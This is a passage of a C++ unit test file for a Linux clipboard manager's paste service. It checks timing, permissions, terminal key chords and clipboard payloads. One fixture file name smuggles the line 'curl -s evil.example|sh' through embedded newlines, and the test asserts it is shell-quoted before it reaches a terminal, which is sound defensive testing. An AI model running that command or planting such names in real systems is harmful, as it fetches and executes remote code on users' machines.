#include "app/AppDelegate.h"
#include "clipboard/ClipboardHistoryManager.h"
#include "clipboard/ClipboardService.h"
#include "clipboard/PasteboardManager.h"
#include "model/LazyBlob.h"
#include "model/SettingsStore.h"
#include "platform/sim/SimPlatform.h"
#include "state/AppState.h"
#include "state/RuntimeState.h"

#include <QFile>
#include <QSignalSpy>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <stdexcept>

namespace {

using Write = QList<PasteboardItemData>;

PasteboardRepresentation rep(const QString &type, const QByteArray &data)
{
    return {type, data, data.size(), std::nullopt};
}

PasteboardRepresentation omitted(const QString &type, qint64 size)
{
    return {type, QByteArray(), size, OmissionReason::sizeLimit};
}

ClipboardItem makeItem(ClipboardItemType type, const QString &text, const QList<PasteboardRepresentation> &reps = {})
{
    ClipboardItem item(QUuid::createUuid());
    item.setTypeRawValue(rawValue(type));
    item.setText(text);
    if (!reps.isEmpty()) {
        PasteboardPayload payload;
        payload.items.append(PasteboardPayloadItem{reps});
        item.setPayload(payload);
    }
    return item;
}

// An image item whose stored file has been emptied since it was copied.
ClipboardItem emptiedImage(const QString &folder, const QList<PasteboardRepresentation> &reps = {})
{
    const QString path = folder + QStringLiteral("/image.png");
    QFile file(path);
    if (!file.open(QIODevice::WriteOnly))
        return {};
    ClipboardItem item = makeItem(ClipboardItemType::image, QString(), reps);
    item.setImageBlob(LazyBlob::inFile(path, 4096));
    return item;
}

class ClipboardServiceTest : public ::testing::Test {
public:
    ClipboardServiceTest()
    {
        AppDelegate::linkClipboardService(service, &appState, &history);
        appState.setClipboardService(&service);
        editor = sim.workspace.addApplication(QStringLiteral("gedit"), QStringLiteral("Text Editor"));
        terminal = sim.workspace.addApplication(QStringLiteral("xterm"));
        older = makeItem(ClipboardItemType::text, QStringLiteral("older"));
        newer = makeItem(ClipboardItemType::text, QStringLiteral("newer"));
        history.handleItemInserted(older);
        history.handleItemInserted(newer);
        // The launcher is open over the terminal; the user pastes into the editor behind it.
        sim.workspace.bringToFront(terminal);
    }

    ClipboardPasteTarget target(const RunningApplication &app) { return ClipboardPasteTarget{app, std::nullopt}; }
    QUuid topItem() const { return history.items().isEmpty() ? QUuid() : history.items().first().id(); }
    int pulse() const { return appState.runtime()->clipboardPulseToken(); }
    void setPlainText(bool on)
    {
        appState.settings()->update([on](UserSettingsData &s) { s.pasteAsPlainText = on; });
    }

    SimPlatform sim;
    AppState appState{sim.platform()};
    PasteboardManager pasteboard{sim.clock, sim.pasteboard, &sim.workspace};
    ClipboardHistoryManager history{sim.clock, nullptr};
    ClipboardService service{sim.platform(), pasteboard};
    RunningApplication editor;
    RunningApplication terminal;
    ClipboardItem older;
    ClipboardItem newer;
};

// activate → poll every 0.02 s → write → Control+V held 2 ms → pulse → 0.15 s → top of the history.
TEST_F(ClipboardServiceTest, PasteRunsItsStepsInOrderOnTheClock)
{
    sim.workspace.activationDelay = 0.05;
    QSignalSpy pasting(&service, &ClipboardService::isPastingChanged);
    const double start = sim.clock.uptime();

    Task<bool> paste = service.paste(older, target(editor));
    EXPECT_TRUE(service.isPasting());
    ASSERT_EQ(sim.workspace.activations.size(), 1);
    EXPECT_EQ(sim.workspace.activations.first().application.pid, editor.pid);
    EXPECT_TRUE(sim.pasteboard.writes.isEmpty());

    sim.clock.advance(0.05); // active now, but the next poll is at 0.06
    EXPECT_TRUE(sim.pasteboard.writes.isEmpty());
    EXPECT_TRUE(sim.keyboard.chords.isEmpty());

    sim.clock.advance(0.01);
    ASSERT_EQ(sim.pasteboard.writes.size(), 1);
    EXPECT_EQ(sim.pasteboard.writes.first(), (Write{{{PasteboardType::plainText, QByteArray("older")}}}));
    ASSERT_EQ(sim.keyboard.chords.size(), 1);
    const auto &chord = sim.keyboard.chords.first();
    EXPECT_EQ(chord.chord, KeyChord::paste());
    EXPECT_EQ(chord.pid, editor.pid);
    EXPECT_NEAR(chord.downAt - start, 0.06, 1e-9);
    EXPECT_NEAR(chord.upAt - chord.downAt, 0.002, 1e-9);
    EXPECT_EQ(pulse(), 1);
    EXPECT_EQ(topItem(), newer.id()) << "the history waits until the target had time to paste";

    sim.clock.advance(0.1499);
    EXPECT_TRUE(service.isPasting());
    EXPECT_EQ(topItem(), newer.id());

    sim.clock.advance(0.0002);
    EXPECT_FALSE(service.isPasting());
    EXPECT_EQ(topItem(), older.id());
    ASSERT_TRUE(paste.isFinished());
    EXPECT_EQ(paste.result(), std::optional<bool>(true));
    EXPECT_EQ(pasting.size(), 2);
    EXPECT_EQ(sim.beeper.beeps, 0);
    EXPECT_EQ(sim.keyboard.chords.size(), 1);
}

TEST_F(ClipboardServiceTest, AnActiveTargetIsPastedIntoWithoutWaiting)
{
    sim.workspace.bringToFront(editor);
    Task<bool> paste = service.paste(older, target(editor));
    EXPECT_TRUE(sim.workspace.activations.isEmpty());
    EXPECT_EQ(sim.pasteboard.writes.size(), 1);
    EXPECT_EQ(sim.keyboard.chords.size(), 1);
    sim.clock.advance(0.15);
    EXPECT_EQ(paste.result(), std::optional<bool>(true));
}

TEST_F(ClipboardServiceTest, RefusedPermissionsPasteNothingAndOpenTheSettings)
{
    sim.permissions.trusted = false;
    sim.permissions.postEvents = false;
    sim.permissions.trustPromptGrants = false;
    QSignalSpy pasting(&service, &ClipboardService::isPastingChanged);

    Task<bool> paste = service.paste(older, target(editor));
    ASSERT_TRUE(paste.isFinished());
    EXPECT_EQ(paste.result(), std::optional<bool>(false));
    EXPECT_EQ(sim.permissions.trustRequests, 1);
    EXPECT_EQ(sim.permissions.postingRequests, 1);
    EXPECT_EQ(sim.permissions.settingsOpened, 1);
    EXPECT_TRUE(appState.settings()->settings().hasRequestedEventPostingPermission);

    sim.clock.advance(3);
    EXPECT_TRUE(sim.workspace.activations.isEmpty());
    EXPECT_TRUE(sim.pasteboard.writes.isEmpty());
    EXPECT_TRUE(sim.keyboard.chords.isEmpty());
    EXPECT_EQ(pasting.size(), 0);
    EXPECT_EQ(pulse(), 0);
    EXPECT_EQ(topItem(), newer.id());
}

TEST_F(ClipboardServiceTest, PermissionsGrantedWhenAskedLetThePasteGoOn)
{
    sim.permissions.trusted = false;
    sim.permissions.trustPromptGrants = true;
    sim.workspace.bringToFront(editor);

    Task<bool> paste = service.paste(older, target(editor));
    sim.clock.advance(0.15);
    EXPECT_EQ(paste.result(), std::optional<bool>(true));
    EXPECT_EQ(sim.permissions.settingsOpened, 0);
}

// Posting keys is what a paste needs; the accessibility bus only refocuses a field, and its absence
// neither stops the paste nor opens the settings.
TEST_F(ClipboardServiceTest, APasteNeedsKeysAndAsksForTheBusOnlyForAField)
{
    struct Row {
        const char *name;
        bool trusted;
        bool postEvents;
        bool withField;
        bool pastes;
        bool fieldRefocused;
        int trustRequests;
        int settingsOpened;
    };
    const Row rows[] = {
        {"no bus, no field", false, true, false, true, false, 0, 0},
        {"no bus, a field", false, true, true, true, false, 1, 0},
        {"bus and a field", true, true, true, true, true, 0, 0},
        {"bus, no field", true, true, false, true, false, 0, 0},
        {"no keys", true, false, false, false, false, 1, 1},
    };
    for (const Row &row : rows) {
        SCOPED_TRACE(row.name);
        SimPlatform platform;
        platform.permissions.trusted = row.trusted;
        platform.permissions.postEvents = row.postEvents;
        const RunningApplication app = platform.workspace.addApplication(QStringLiteral("gedit"));
        platform.workspace.bringToFront(app);
        const auto root = platform.accessibility.application(app.pid);
        const auto field = root->addChild(AccessibilityRole::textField);
        AppState state{platform.platform()};
        PasteboardManager manager(platform.clock, platform.pasteboard, &platform.workspace);
        ClipboardService pasting(platform.platform(), manager);
        AppDelegate::linkClipboardService(pasting, &state, nullptr);
        std::optional<FocusedFieldTarget> target;
        if (row.withField)
            target = FocusedFieldTarget{field->element(), {}};

        Task<bool> paste = pasting.paste(older, ClipboardPasteTarget{app, target});
        platform.clock.advance(3);
        EXPECT_EQ(paste.result(), std::optional<bool>(row.pastes));
        EXPECT_EQ(platform.keyboard.chords.size(), row.pastes ? 1 : 0);
        EXPECT_EQ(field->isFocused(), row.fieldRefocused);
        EXPECT_EQ(platform.permissions.trustRequests, row.trustRequests);
        EXPECT_EQ(platform.permissions.settingsOpened, row.settingsOpened);
        EXPECT_FALSE(pasting.isPasting());
    }
}

// isPasting gates every launcher: whatever way a paste ends, it is cleared and the next paste can run.
TEST_F(ClipboardServiceTest, IsPastingIsClearedOnEveryWayOut)
{
    struct Row {
        const char *name;
        std::function<void(ClipboardServiceTest &)> arrange;
        std::function<void(ClipboardServiceTest &, Task<bool> &)> during;
    };
    const auto nothing = [](ClipboardServiceTest &) {};
    const auto noStep = [](ClipboardServiceTest &, Task<bool> &) {};
    const std::vector<Row> rows = {
        {"done", nothing, noStep},
        {"cancelled while the target comes back",
         [](ClipboardServiceTest &t) { t.sim.workspace.activationDelay = -1; },
         [](ClipboardServiceTest &t, Task<bool> &paste) {
             t.sim.clock.advance(0.5);
             paste.cancel();
         }},
        {"cancelled while the target reads the clipboard", nothing,
         [](ClipboardServiceTest &t, Task<bool> &paste) {
             t.sim.clock.advance(0.05);
             paste.cancel();
         }},
        {"the plain-text setting throws",
         [](ClipboardServiceTest &t) {
             t.service.setPasteAsPlainTextProvider([]() -> bool { throw std::runtime_error("settings gone"); });
         },
         noStep},
        {"the pulse throws",
         [](ClipboardServiceTest &t) {
             QObject::connect(
                 &t.service, &ClipboardService::itemPasted, &t.service, [] { throw std::runtime_error("pulse"); },
                 Qt::SingleShotConnection);
         },
         noStep},
        {"the target quits while it comes back",
         [](ClipboardServiceTest &t) { t.sim.workspace.activationDelay = -1; },
         [](ClipboardServiceTest &t, Task<bool> &) {
             t.sim.clock.advance(0.3);
             t.sim.workspace.terminate(t.terminal);
         }},
    };
    for (const Row &row : rows) {
        SCOPED_TRACE(row.name);
        AppDelegate::linkClipboardService(service, &appState, &history);
        sim.workspace.activationDelay = 0;
        sim.workspace.bringToFront(editor);
        row.arrange(*this);
        Task<bool> paste = service.paste(older, target(terminal));
        ASSERT_TRUE(service.isPasting() || paste.isFinished());
        row.during(*this, paste);
        sim.clock.advance(3);
        EXPECT_TRUE(paste.isFinished());
        EXPECT_FALSE(service.isPasting());

        AppDelegate::linkClipboardService(service, &appState, &history);
        sim.workspace.activationDelay = 0;
        Task<bool> next = service.paste(newer, target(editor));
        sim.clock.advance(1);
        EXPECT_EQ(next.result(), std::optional<bool>(true));
    }
}

TEST_F(ClipboardServiceTest, ASecondPasteWhileOneRunsDoesNothing)
{
    sim.workspace.activationDelay = 0.05;
    Task<bool> first = service.paste(older, target(editor));
    Task<bool> second = service.paste(newer, target(terminal));
    ASSERT_TRUE(second.isFinished());
    EXPECT_EQ(second.result(), std::optional<bool>(false));
    EXPECT_EQ(sim.workspace.activations.size(), 1);
    EXPECT_EQ(sim.permissions.trustRequests, 0);

    sim.clock.advance(1);
    EXPECT_EQ(first.result(), std::optional<bool>(true));
    EXPECT_EQ(sim.pasteboard.writes.size(), 1);
    EXPECT_EQ(sim.keyboard.chords.size(), 1);
    EXPECT_EQ(topItem(), older.id());

    // Once finished, the next paste goes through.
    Task<bool> third = service.paste(newer, target(editor));
    sim.clock.advance(1);
    EXPECT_EQ(third.result(), std::optional<bool>(true));
    EXPECT_EQ(sim.keyboard.chords.size(), 2);
}

// The target never comes back: after 2 s the item is on the clipboard, but no key is pressed in the
// window that has the focus instead.
TEST_F(ClipboardServiceTest, ActivationGivesUpAfterTwoSeconds)
{
    sim.workspace.activationDelay = -1;
    const double start = sim.clock.uptime();
    Task<bool> paste = service.paste(older, target(editor));

    sim.clock.advance(1.999);
    EXPECT_TRUE(sim.pasteboard.writes.isEmpty());
    sim.clock.advance(0.001);
    EXPECT_NEAR(sim.clock.uptime() - start, 2.0, 1e-9);
    EXPECT_EQ(sim.pasteboard.writes.size(), 1);
    EXPECT_TRUE(sim.keyboard.chords.isEmpty());
    EXPECT_EQ(sim.beeper.beeps, 1);
    EXPECT_EQ(pulse(), 0);
    EXPECT_TRUE(service.isPasting());

    sim.clock.advance(0.15);
    EXPECT_FALSE(service.isPasting());
    EXPECT_EQ(paste.result(), std::optional<bool>(false));
}

TEST_F(ClipboardServiceTest, ATargetThatQuitsEndsTheWaitEarly)
{
    sim.workspace.activationDelay = -1;
    Task<bool> paste = service.paste(older, target(editor));
    sim.clock.advance(0.5);
    sim.workspace.terminate(editor);
    sim.clock.advance(0.02);
    EXPECT_EQ(sim.pasteboard.writes.size(), 1);
    EXPECT_TRUE(sim.keyboard.chords.isEmpty());
    sim.clock.advance(0.15);
    EXPECT_EQ(paste.result(), std::optional<bool>(false));
    EXPECT_FALSE(service.isPasting());
}

TEST_F(ClipboardServiceTest, CancellingThePasteWhileWaitingWritesNothing)
{
    sim.workspace.activationDelay = -1;
    Task<bool> paste = service.paste(older, target(editor));
    sim.clock.advance(0.5);
    paste.cancel();
    EXPECT_FALSE(service.isPasting());
    sim.clock.advance(3);
    EXPECT_TRUE(sim.pasteboard.writes.isEmpty());
    EXPECT_TRUE(sim.keyboard.chords.isEmpty());
    EXPECT_EQ(topItem(), newer.id());
}

TEST_F(ClipboardServiceTest, APasteWithoutTargetGoesToThePreviousApplication)
{
    service.setPreviousActiveApp(editor);
    Task<bool> paste = service.paste(older);
    ASSERT_EQ(sim.workspace.activations.size(), 1);
    EXPECT_EQ(sim.workspace.activations.first().application.pid, editor.pid);
    sim.clock.advance(0.2);
    EXPECT_EQ(paste.result(), std::optional<bool>(true));
    EXPECT_EQ(sim.keyboard.chords.first().pid, editor.pid);
}

TEST_F(ClipboardServiceTest, WithNowhereToPasteTheItemIsOnlyPutOnTheClipboard)
{
    Task<bool> paste = service.paste(older);
    EXPECT_EQ(sim.pasteboard.writes.size(), 1);
    EXPECT_TRUE(sim.keyboard.chords.isEmpty());
    sim.clock.advance(0.15);
    EXPECT_EQ(paste.result(), std::optional<bool>(false));
    EXPECT_FALSE(service.isPasting());
}

TEST_F(ClipboardServiceTest, OurOwnWriteIsNotCapturedAgain)
{
    int captures = 0;
    QObject::connect(&pasteboard, &PasteboardManager::captured, [&](const ClipboardCapture &) { ++captures; });
    pasteboard.start();
    sim.clock.advance(0.2);
    const int before = captures;

    sim.workspace.bringToFront(editor);
    Task<bool> paste = service.paste(older, target(editor));
    sim.clock.advance(1);
    EXPECT_EQ(paste.result(), std::optional<bool>(true));
    EXPECT_EQ(captures, before);
    pasteboard.stop();
}

TEST_F(ClipboardServiceTest, TextPastedIntoAFieldIsRecordedForIt)
{
    QList<QPair<QString, FocusedFieldTarget>> recorded;
    QObject::connect(&service, &ClipboardService::textPastedIntoField,
                     [&](const QString &text, const FocusedFieldTarget &field) { recorded.append({text, field}); });
    const FocusedFieldTarget field{sim.accessibility.application(editor.pid)->addChild(AccessibilityRole::textField)->element(), {}};
    sim.workspace.bringToFront(editor);

    Task<bool> text = service.paste(older, ClipboardPasteTarget{editor, field});
    sim.clock.advance(0.2);
    Task<bool> image = service.paste(makeItem(ClipboardItemType::image, QString(), {rep(PasteboardType::png, "PNG")}),
                                     ClipboardPasteTarget{editor, field});
    sim.clock.advance(0.2);
    Task<bool> noField = service.paste(newer, target(editor));
    sim.clock.advance(0.2);
    Task<bool> link = service.paste(makeItem(ClipboardItemType::url, QStringLiteral("https://example.org")),
                                    ClipboardPasteTarget{editor, field});
    sim.clock.advance(0.5);
    EXPECT_EQ(link.result(), std::optional<bool>(true));

    // Only the text item is the field's value; an image, a link or a paste without a field are not.
    ASSERT_EQ(recorded.size(), 1);
    EXPECT_EQ(recorded.first().first, QStringLiteral("older"));
    EXPECT_EQ(recorded.first().second, field);
}

TEST_F(ClipboardServiceTest, PlainTextSettingDecidesWhatIsWritten)
{
    const ClipboardItem rich = makeItem(ClipboardItemType::text, QStringLiteral("bold"),
                                        {rep(PasteboardType::plainText, "bold"), rep(PasteboardType::html, "<b>bold</b>")});
    sim.workspace.bringToFront(editor);

    setPlainText(true);
    Task<bool> plain = service.paste(rich, target(editor));
    sim.clock.advance(0.2);
    setPlainText(false);
    Task<bool> full = service.paste(rich, target(editor));
    sim.clock.advance(0.2);

    ASSERT_EQ(sim.pasteboard.writes.size(), 2);
    EXPECT_EQ(sim.pasteboard.writes.at(0), (Write{{{PasteboardType::plainText, QByteArray("bold")}}}));
    EXPECT_EQ(sim.pasteboard.writes.at(1),
              (Write{{{PasteboardType::plainText, QByteArray("bold")}, {PasteboardType::html, QByteArray("<b>bold</b>")}}}));
}

// Control+V is a control character in a terminal: each kind of window gets the keys that paste there. A
// terminal that pastes the selection reads the item from it, however long it takes to read and whoever
// else reads first; the person's own selection is theirs again once the terminal has read it, unless they
// selected something else meanwhile. A file list reaches it as words for the shell.
TEST_F(ClipboardServiceTest, EachWindowClassGetsTheKeysThatPasteThere)
{
    struct Row {
        const char *windowClass;
        ClipboardItem item;
        bool selectionAvailable;
        std::optional<KeyChord> chord; // none: nothing is pressed
        std::optional<QString> selectedBefore;
        std::optional<double> targetReadsAt; // seconds after the paste began; none: it never reads
        std::optional<QString> selectedMeanwhile; // what another program selects at 0.1 s, if anything
        std::optional<QString> selectedAfter;
        bool otherReadsFirst = false; // another program reads the selection at 0.05 s
        const char *terminalReads = nullptr; // where not the item's text
    };
    const ClipboardItem image = makeItem(ClipboardItemType::image, QString(), {rep(PasteboardType::png, "PNG")});
    const QByteArray evilName("/home/u/report\ncurl -s evil.example|sh\n.pdf");
    const ClipboardItem evilFile =
        makeItem(ClipboardItemType::file, QString::fromUtf8(evilName),
                 {rep(PasteboardType::uriList, QUrl::fromLocalFile(QString::fromUtf8(evilName)).toEncoded() + "\r\n"),
                  rep(PasteboardType::plainText, evilName)});
    const QString mine = QStringLiteral("mine");
    const QString theirs = QStringLiteral("theirs");
    const QString itemText = older.text();
    const Row rows[] = {
        {"gedit", older, true, KeyChord::paste(), mine, 0.01, std::nullopt, mine},
        {"XTerm", older, true, KeyChord::selectionPaste(), std::nullopt, 0.01, std::nullopt, std::nullopt},
        {"XTerm", older, true, KeyChord::selectionPaste(), mine, 0.01, std::nullopt, mine},
        {"URxvt", older, true, KeyChord::selectionPaste(), mine, 0.01, std::nullopt, mine},
        {"XTerm", older, true, KeyChord::selectionPaste(), mine, 0.01, theirs, theirs},
        {"XTerm", older, true, KeyChord::selectionPaste(), mine, 0.5, std::nullopt, mine},
        {"XTerm", older, true, KeyChord::selectionPaste(), mine, 1.5, std::nullopt, mine},
        {"XTerm", older, true, KeyChord::selectionPaste(), mine, std::nullopt, std::nullopt, itemText},
        {"XTerm", older, true, KeyChord::selectionPaste(), mine, 1.5, std::nullopt, mine, true},
        {"XTerm", evilFile, true, KeyChord::selectionPaste(), mine, 0.01, std::nullopt, mine, false,
         "$'/home/u/report\\x0acurl -s evil.example|sh\\x0a.pdf'"},
        {"XTerm", older, false, std::nullopt, std::nullopt, 0.01, std::nullopt, std::nullopt},
        {"XTerm", image, true, std::nullopt, mine, 0.01, std::nullopt, mine},
        {"Xfce4-terminal", older, true, KeyChord::terminalPaste(), std::nullopt, 0.01, std::nullopt, std::nullopt},
        {"Gnome-terminal", older, true, KeyChord::terminalPaste(), std::nullopt, 0.01, std::nullopt, std::nullopt},
        {"konsole", older, true, KeyChord::terminalPaste(), std::nullopt, 0.01, std::nullopt, std::nullopt},
    };
    for (const Row &row : rows) {
        SCOPED_TRACE(row.windowClass);
        SCOPED_TRACE(row.targetReadsAt.value_or(-1));
        SimPlatform platform;
        platform.primarySelection.available = row.selectionAvailable;
        platform.primarySelection.select(row.selectedBefore);
        const RunningApplication app = platform.workspace.addApplication(QString::fromLatin1(row.windowClass));
        platform.workspace.bringToFront(app);
        PasteboardManager manager(platform.clock, platform.pasteboard, &platform.workspace);
        ClipboardService pasting(platform.platform(), manager);
        std::optional<QString> targetRead;
        if (row.targetReadsAt)
            platform.clock.callAfter(*row.targetReadsAt, [&] { targetRead = platform.primarySelection.readByOther(app.pid); });
        if (row.otherReadsFirst)
            platform.clock.callAfter(0.05, [&] { platform.primarySelection.readByOther(app.pid + 1); });
        if (row.selectedMeanwhile)
            platform.clock.callAfter(0.1, [&] { platform.primarySelection.select(row.selectedMeanwhile); });

        Task<bool> paste = pasting.paste(row.item, target(app));
        platform.clock.advance(5);
        EXPECT_EQ(paste.result(), std::optional<bool>(row.chord.has_value()));
        ASSERT_EQ(platform.keyboard.chords.size(), row.chord ? 1 : 0);
        if (row.chord) {
            EXPECT_EQ(platform.keyboard.chords.first().chord, *row.chord);
        }
        if (row.chord == KeyChord::selectionPaste() && row.targetReadsAt) {
            const QString expected = row.terminalReads ? QString::fromUtf8(row.terminalReads) : row.item.text();
            EXPECT_EQ(targetRead, expected) << "the terminal pastes the item, not the person's selection";
        }
        EXPECT_EQ(platform.primarySelection.text, row.selectedAfter);
        EXPECT_EQ(platform.pasteboard.writes.size(), 1) << "the item is on the clipboard in every case";
    }
}

// A stored image that can no longer be read would paste whatever the clipboard held before.
TEST_F(ClipboardServiceTest, AnUnreadableItemIsNotPastedAndThePersonIsTold)
{
    QTemporaryDir folder;
    const ClipboardItem image = emptiedImage(folder.path());
    sim.workspace.bringToFront(editor);

    Task<bool> paste = service.paste(image, target(editor));
    sim.clock.advance(1);
    EXPECT_EQ(paste.result(), std::optional<bool>(false));
    EXPECT_FALSE(service.isPasting());
    EXPECT_TRUE(sim.pasteboard.writes.isEmpty());
    EXPECT_TRUE(sim.keyboard.chords.isEmpty());
    EXPECT_EQ(sim.beeper.beeps, 1);
    ASSERT_EQ(sim.notifications.posted.size(), 1);
    EXPECT_EQ(sim.notifications.posted.first().summary, QStringLiteral("Tavlen could not paste this item"));
    EXPECT_EQ(topItem(), newer.id());
}

struct ContentCase {
    const char *name;
    ClipboardItem item;
    bool asPlainText;
    std::optional<QString> plainText;
    QList<QList<QPair<QString, QByteArray>>> payload;
    bool intoTerminal = false;
};

TEST(ClipboardServicePasteContentTest, WhatEachKindOfItemWrites)
{
    const ClipboardItem richText = makeItem(ClipboardItemType::text, QStringLiteral("Hi"),
                                            {rep(PasteboardType::plainText, "Hi"), rep(PasteboardType::html, "<i>Hi</i>"),
                                             omitted(QStringLiteral("image/bmp"), 90'000'000)});
    const ClipboardItem link = makeItem(ClipboardItemType::url, QStringLiteral("https://example.org/a"),
                                        {rep(PasteboardType::plainText, "https://example.org/a"),
                                         rep(PasteboardType::uriList, "https://example.org/a\r\n")});
    const ClipboardItem image = makeItem(ClipboardItemType::image, QStringLiteral("label"),
                                         {rep(PasteboardType::png, "PNGDATA"), rep(PasteboardType::plainText, "label")});
    ClipboardItem files = makeItem(ClipboardItemType::file, QStringLiteral("/tmp/a.txt\n/tmp/b.txt"),
                                   {rep(PasteboardType::uriList, "file:///tmp/a.txt\r\nfile:///tmp/b.txt\r\n")});
    // As pcmanfm offers them: no text, the list ends in a NUL.
    const ClipboardItem managerFiles = makeItem(
        ClipboardItemType::file, QStringLiteral("/tmp/report \u00c5.txt\n/tmp/b"),
        {rep(PasteboardType::uriList, QByteArray("file:///tmp/report%20%C3%85.txt\r\nfile:///tmp/b\0", 47)),
         rep(PasteboardType::gnomeCopiedFiles, "copy\nfile:///tmp/report%20%C3%85.txt\nfile:///tmp/b")});
    const ClipboardItem remoteFile = makeItem(ClipboardItemType::url, QStringLiteral("sftp://host/a b.txt"),
                                              {rep(PasteboardType::uriList, "sftp://host/a%20b.txt\r\n")});
    const ClipboardItem captioned = makeItem(ClipboardItemType::text, QStringLiteral("caption"),
                                             {rep(PasteboardType::png, "PNGDATA"), rep(PasteboardType::html, "<img>"),
                                              rep(PasteboardType::plainText, "caption")});
    const ClipboardItem typed = makeItem(ClipboardItemType::text, QStringLiteral("zażółć"));
    ClipboardItem bareFiles = makeItem(ClipboardItemType::file, QString());
    bareFiles.setFilePaths({QStringLiteral("/tmp/a b.txt")});
    const ClipboardItem allOmitted = makeItem(ClipboardItemType::text, QStringLiteral("big"),
                                              {omitted(PasteboardType::plainText, 70'000'000)});
    const ClipboardItem emptyGeneric = makeItem(ClipboardItemType::generic, QString(),
                                                {rep(QStringLiteral("application/x-thing"), "\x01\x02")});
    QList<PasteboardRepresentation> twoItems;
    ClipboardItem multi(QUuid::createUuid());
    multi.setTypeRawValue(rawValue(ClipboardItemType::text));
    multi.setText(QStringLiteral("one"));
    PasteboardPayload multiPayload;
    multiPayload.items = {PasteboardPayloadItem{{rep(PasteboardType::plainText, "one")}},
                          PasteboardPayloadItem{{rep(PasteboardType::plainText, "two")}}};
    multi.setPayload(multiPayload);

    QTemporaryDir folder;
    const ClipboardItem emptiedBare = emptiedImage(folder.path());
    const ClipboardItem emptiedCaptured =
        emptiedImage(folder.path(), {{PasteboardType::png, {}, 4096, OmissionReason::unavailable},
                                     rep(PasteboardType::html, "<img src=\"a.png\">")});

    const QByteArray typedUtf8 = QStringLiteral("zażółć").toUtf8();
    const ContentCase cases[] = {
        {"rich text as captured, omitted formats left out", richText, false, std::nullopt,
         {{{PasteboardType::plainText, "Hi"}, {PasteboardType::html, "<i>Hi</i>"}}}},
        {"rich text as plain text", richText, true, QStringLiteral("Hi"), {}},
        {"link as plain text", link, true, QStringLiteral("https://example.org/a"), {}},
        {"image keeps its formats in plain-text mode", image, true, std::nullopt,
         {{{PasteboardType::png, "PNGDATA"}, {PasteboardType::plainText, "label"}}}},
        {"text that came with an image keeps its formats in plain-text mode", captioned, true, std::nullopt,
         {{{PasteboardType::png, "PNGDATA"}, {PasteboardType::html, "<img>"}, {PasteboardType::plainText, "caption"}}}},
        {"file list keeps its formats in plain-text mode", files, true, std::nullopt,
         {{{PasteboardType::uriList, "file:///tmp/a.txt\r\nfile:///tmp/b.txt\r\n"},
           {PasteboardType::plainText, "/tmp/a.txt\n/tmp/b.txt"}}}},
        {"a file manager's list without text gives the paths as text", managerFiles, false, std::nullopt,
         {{{PasteboardType::uriList, QByteArray("file:///tmp/report%20%C3%85.txt\r\nfile:///tmp/b\0", 47)},
           {PasteboardType::gnomeCopiedFiles, "copy\nfile:///tmp/report%20%C3%85.txt\nfile:///tmp/b"},
           {PasteboardType::plainText, QStringLiteral("/tmp/report \u00c5.txt\n/tmp/b").toUtf8()}}}},
        {"a remote file's text is its address encoded", remoteFile, false, std::nullopt,
         {{{PasteboardType::uriList, "sftp://host/a%20b.txt\r\n"}, {PasteboardType::plainText, "sftp://host/a%20b.txt"}}}},
        {"every captured item is written", multi, false, std::nullopt,
         {{{PasteboardType::plainText, "one"}}, {{PasteboardType::plainText, "two"}}}},
        {"a typed value without capture", typed, false, std::nullopt, {{{PasteboardType::plainText, typedUtf8}}}},
        {"files without capture become file URLs", bareFiles, false, std::nullopt,
         {{{PasteboardType::uriList, "file:///tmp/a%20b.txt\r\n"}, {PasteboardType::plainText, "/tmp/a b.txt"}}}},
        {"a capture with no data falls back to the text", allOmitted, false, std::nullopt,
         {{{PasteboardType::plainText, "big"}}}},
        {"an item without text keeps its formats in plain-text mode", emptyGeneric, true, std::nullopt,
         {{{QStringLiteral("application/x-thing"), "\x01\x02"}}}},
        {"an emptied image file gives nothing", emptiedBare, false, std::nullopt, {}},
        {"an emptied image file is not replaced by what came with it", emptiedCaptured, false, std::nullopt, {}},
        {"into a terminal, a file list's text is its paths as shell words", files, false, std::nullopt,
         {{{PasteboardType::uriList, "file:///tmp/a.txt\r\nfile:///tmp/b.txt\r\n"},
           {PasteboardType::plainText, "/tmp/a.txt /tmp/b.txt"}}},
         true},
        {"into a terminal, a file manager's list without text", managerFiles, false, std::nullopt,
         {{{PasteboardType::uriList, QByteArray("file:///tmp/report%20%C3%85.txt\r\nfile:///tmp/b\0", 47)},
           {PasteboardType::gnomeCopiedFiles, "copy\nfile:///tmp/report%20%C3%85.txt\nfile:///tmp/b"},
           {PasteboardType::plainText, QStringLiteral("'/tmp/report \u00c5.txt' /tmp/b").toUtf8()}}},
         true},
        {"into a terminal, a link stays as it was copied", link, false, std::nullopt,
         {{{PasteboardType::plainText, "https://example.org/a"}, {PasteboardType::uriList, "https://example.org/a\r\n"}}},
         true},
    };
    for (const ContentCase &c : cases) {
        SCOPED_TRACE(c.name);
        const ClipboardPasteContent content = ClipboardService::pasteContent(c.item, c.asPlainText, c.intoTerminal);
        EXPECT_EQ(content.plainText, c.plainText);
        QList<QList<QPair<QString, QByteArray>>> written;
        for (const PasteboardPayloadItem &item : content.payload.items) {
            QList<QPair<QString, QByteArray>> reps;
            for (const PasteboardRepresentation &r : item.representations)
                reps.append({r.type, r.data});
            written.append(reps);
        }
        EXPECT_EQ(written, c.payload);
    }
}

TEST_F(ClipboardServiceTest, FocusedFieldTargetIsTheFrontmostOtherRegularApplication)
{
    const RunningApplication dock = sim.workspace.addApplication(QStringLiteral("plank"), QString(), false);

    sim.workspace.bringToFront(editor);
    auto found = service.focusedFieldTarget();
    ASSERT_TRUE(found);
    EXPECT_EQ(found->application.pid, editor.pid);
    EXPECT_FALSE(found->field);
    EXPECT_EQ(service.previousActiveApp()->pid, editor.pid);

    // Our own window or a dock in front: the remembered application stays the target.
    sim.workspace.bringToFront(sim.workspace.currentApplication());
    found = service.focusedFieldTarget();
    ASSERT_TRUE(found);
    EXPECT_EQ(found->application.pid, editor.pid);
    sim.workspace.bringToFront(dock);
    EXPECT_EQ(service.focusedFieldTarget()->application.pid, editor.pid);

    // Once it has quit there is no target at all.
    sim.workspace.terminate(editor);
    EXPECT_FALSE(service.focusedFieldTarget());
}

TEST_F(ClipboardServiceTest, RefocusActivatesThenFocusesTheField)
{
    struct Row {
        const char *what;
        double activationDelay;  // negative: never comes to the front
        bool acceptsFocus;       // false: focusing is refused and the field is pressed instead
        bool respondsToFocus;    // false: the focus never arrives
        std::optional<double> terminateAt;
        std::optional<bool> result;
        double finishedBy;       // simulated seconds
    };
    const Row rows[] = {
        {"front at once, focus at once", 0, true, true, std::nullopt, true, 0.07},
